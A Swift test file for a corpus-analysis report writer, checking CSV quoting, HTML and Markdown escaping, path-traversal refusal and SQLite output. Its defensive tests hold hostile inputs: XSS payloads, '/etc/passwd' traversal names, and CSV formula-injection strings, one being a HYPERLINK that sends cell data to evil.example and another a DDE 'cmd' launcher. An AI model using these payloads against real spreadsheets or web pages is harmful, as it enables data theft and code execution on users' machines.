import Foundation
import Testing
@testable import WaveReports
import WaveLexicon
import WaveCorpus
import WaveIngest
import WaveText

/// Corpus analyses of small articles, made by the shipped analyzer.
enum ReportFixture {
    static let analyzer = Result {
        Analyzer(stopwords: Stopwords(), dictionary: try ThemeDictionary.shipped(), lexicon: try SentimentLexicon.shipped(),
                 gazetteer: try Gazetteer.shipped())
    }

    static func article(_ id: String, title: String, date: String? = "2023-05-01",
                        text: String = "Japan looks back with nostalgia at its classic anime heritage.") -> Article {
        Article(id: id, path: id, title: title, authors: ["A, B"], date: date, site: "Site", format: .html,
                encoding: "UTF-8", paragraphs: [text])
    }

    static func analysis(_ articles: [Article]) throws -> CorpusAnalysis {
        let analyzer = try analyzer.get()
        return CorpusAnalysis(documents: articles.map(analyzer.analyze), targets: Targets(analyzer.mentions.gazetteer),
                              themes: ThemeInfo.of(analyzer.themes.dictionary))
    }

    static func summary(failures: [FailureRecord] = []) -> RunSummary {
        var summary = RunSummary(version: "t", corpus: "c", output: "o", startedAt: "2026-01-01T00:00:00Z",
                                 seconds: 1, japaneseSegmenter: "icu")
        summary.failures = failures
        return summary
    }
}

@Suite struct ReportWriterTests {
    func temp() -> URL { FileManager.default.temporaryDirectory.appendingPathComponent("wl-report-\(UUID().uuidString)") }

    @Test func csvQuotesWhatNeedsQuoting() {
        #expect(CSVTable.quote("plain") == "plain")
        #expect(CSVTable.quote("a,b") == "\"a,b\"")
        #expect(CSVTable.quote("say \"hi\"") == "\"say \"\"hi\"\"\"")
        #expect(CSVTable.quote("two\nlines") == "\"two\nlines\"")
        #expect(CSVTable.quote(" edge") == "\" edge\"")
        #expect(CSVTable.number(-0.00001) == "0.0000")
        #expect(CSVTable.number(.nan) == "")
    }

    @Test func htmlReportEscapesArticleText() throws {
        let hostile = ReportFixture.article("a", title: "<img src=x onerror=alert(1)> & \"quotes\"",
                                            text: "Japan's nostalgia for classic anime <script>alert(1)</script> endures.")
        let model = ReportModel(analysis: try ReportFixture.analysis([hostile]), summary: ReportFixture.summary(
            failures: [FailureRecord(path: "<evil>.html", stage: "ingest", code: "binary", reason: "<b>")]))
        let html = HTMLRenderer(model: model).render()
        #expect(!html.contains("<img src=x"))
        #expect(html.contains("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot;"))
        #expect(!html.contains("<script>alert"))
        #expect(html.contains("&lt;evil&gt;.html"))
        #expect(!html.contains("<b>"))
    }

    @Test func markdownReportKeepsTablesIntact() throws {
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "pipe | in title\nand newline")])
        let md = MarkdownRenderer(model: ReportModel(analysis: analysis, summary: ReportFixture.summary())).render()
        #expect(md.contains("pipe \\| in title and newline"))
        #expect(!md.contains("<script>"))
        #expect(md.hasSuffix("\n") && !md.hasSuffix("\n\n"))
    }

    @Test func bothRenderersShowTheSameSections() throws {
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One")])
        let model = ReportModel(analysis: analysis, summary: ReportFixture.summary())
        let html = HTMLRenderer(model: model).render(), md = MarkdownRenderer(model: model).render()
        for section in model.sections {
            let id = section.anchor.map { " id=\"\($0)\"" } ?? ""
            #expect(html.contains("<h2\(id)>\(HTML.escape(section.title))</h2>"), "\(section.title)")
            #expect(md.contains("## \(MarkdownText.cell(section.title))\n"), "\(section.title)")
        }
        #expect(model.sections.map(\.title).contains("Keyness: japan vs korea (focus)"))
    }

    @Test func writesEveryFileAtomicallyInsideTheFolder() throws {
        let folder = temp()
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One"),
                                                   ReportFixture.article("b", title: "Two, with comma", date: nil)])
        let names = try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary())
        #expect(names == ReportWriter.fileNames + RunTables.corpusTables(analysis).map(\.name) + [ReportWriter.manifestName])
        let contents = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
        #expect(contents == names.sorted())
        let csv = try String(contentsOf: folder.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(csv.split(separator: "\n").count == 3)
        #expect(csv.contains("\"Two, with comma\""))
        #expect(csv.contains("\"A, B\""))
        let summary = try JSONSerialization.jsonObject(with: Data(contentsOf: folder.appendingPathComponent("summary.json"))) as? [String: Any]
        #expect((summary?["outputs"] as? [String])?.contains("report.html") == true)
    }

    @Test func refusesNamesThatLeaveTheFolder() {
        let writer = ReportWriter(folder: temp())
        for name in ["../escape.csv", "/etc/passwd", "a/b.csv", "..", ".", ""] {
            #expect(throws: (any Error).self, "\(name)") { try writer.put(name, "x") }
        }
    }

    @Test func unwritableFolderThrows() throws {
        let writer = ReportWriter(folder: URL(fileURLWithPath: "/proc/wavelength-cannot-write"))
        let analysis = try ReportFixture.analysis([])
        #expect(throws: (any Error).self) { try writer.write(analysis, summary: ReportFixture.summary()) }
    }
}

internal import CSQLite

@Suite struct SQLiteTablesTests {
    @Test func databaseHoldsTheSameRowsAsTheCSVTables() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("wl-sqlite-\(UUID().uuidString)")
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "O'Brien; \"x\""),
                                                   ReportFixture.article("b", title: "B")])
        try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary(
            failures: [FailureRecord(path: "bad.html", stage: "ingest", code: "binary", reason: "NUL bytes")]))
        var db: OpaquePointer?
        #expect(sqlite3_open_v2(folder.appendingPathComponent("wavelength.sqlite").path, &db, SQLITE_OPEN_READONLY, nil) == SQLITE_OK)
        defer { sqlite3_close(db) }
        func scalar(_ sql: String) -> String? {
            var stmt: OpaquePointer?
            guard sqlite3_prepare_v2(db, sql, -1, &stmt, nil) == SQLITE_OK else { return nil }
            defer { sqlite3_finalize(stmt) }
            guard sqlite3_step(stmt) == SQLITE_ROW, let text = sqlite3_column_text(stmt, 0) else { return nil }
            return String(cString: text)
        }
        let b = try #require(analysis.documents.last)
        #expect(scalar("SELECT count(*) FROM documents") == "2")
        #expect(scalar("SELECT title FROM documents WHERE id = 'a'") == "O'Brien; \"x\"")
        #expect(scalar("SELECT sentiment_korea IS NULL FROM documents WHERE id = 'a'") == "1")
        #expect(scalar("SELECT sentiment_japan IS NULL FROM documents WHERE id = 'a'") == "0")
        #expect(scalar("SELECT nostalgia FROM documents WHERE id = 'b'") == String(b.themeHits("nostalgia")))
        #expect(b.themeHits("nostalgia") > 0)
        #expect(scalar("SELECT reason FROM failures") == "NUL bytes")
        let term = try #require(analysis.terms.first)
        #expect(scalar("SELECT count FROM terms WHERE term = '\(term.term)' AND language = '\(term.group)'") == String(term.count))
    }
}

/// CSV formula injection: spreadsheet-safe CSV by default, exact text everywhere else.
@Suite struct SpreadsheetSafetyTests {
    static let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
                          "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]

    @Test func cellsThatWouldRunAreNeutralisedAndNumbersAreNot() {
        for cell in Self.hostile { #expect(CSVTable.neutralized(cell) == "'" + cell) }
        for cell in ["-0.2500", "+3", "-1e-05", "1.5", "plain", "", "a=b", "-", "-inf"] {
            #expect(CSVTable.neutralized(cell) == (cell == "-" || cell == "-inf" ? "'" + cell : cell))
        }
        var table = CSVTable(header: ["title", "score"])
        table.append(["=1+1", "-0.5"])
        #expect(table.text == "title,score\n'=1+1,-0.5\n")
        #expect(table.render(.raw) == "title,score\n=1+1,-0.5\n")
    }

    @Test func runTablesAreSafeAndJSONLinesAndSQLiteKeepTheExactText() throws {
        let title = Self.hostile[1]
        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: title)])
        let safe = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
        try ReportWriter(folder: safe).write(analysis, summary: ReportFixture.summary())
        let csv = try String(contentsOf: safe.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(csv.contains(",'=cmd|' /C calc'!A0,"))
        #expect(!csv.contains(",=cmd"))
        let jsonl = try String(contentsOf: safe.appendingPathComponent("documents.jsonl"), encoding: .utf8)
        #expect(jsonl.contains("\"title\":\"=cmd|' /C calc'!A0\""))
        var db: OpaquePointer?
        #expect(sqlite3_open_v2(safe.appendingPathComponent("wavelength.sqlite").path, &db, SQLITE_OPEN_READONLY, nil) == SQLITE_OK)
        defer { sqlite3_close(db) }
        var stmt: OpaquePointer?
        #expect(sqlite3_prepare_v2(db, "SELECT title FROM documents", -1, &stmt, nil) == SQLITE_OK)
        defer { sqlite3_finalize(stmt) }
        #expect(sqlite3_step(stmt) == SQLITE_ROW)
        #expect(sqlite3_column_text(stmt, 0).map { String(cString: $0) } == title)

        let raw = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
        try ReportWriter(folder: raw, cells: .raw).write(analysis, summary: ReportFixture.summary())
        let rawCSV = try String(contentsOf: raw.appendingPathComponent("documents.csv"), encoding: .utf8)
        #expect(rawCSV.contains(",=cmd|' /C calc'!A0,"))
    }
}
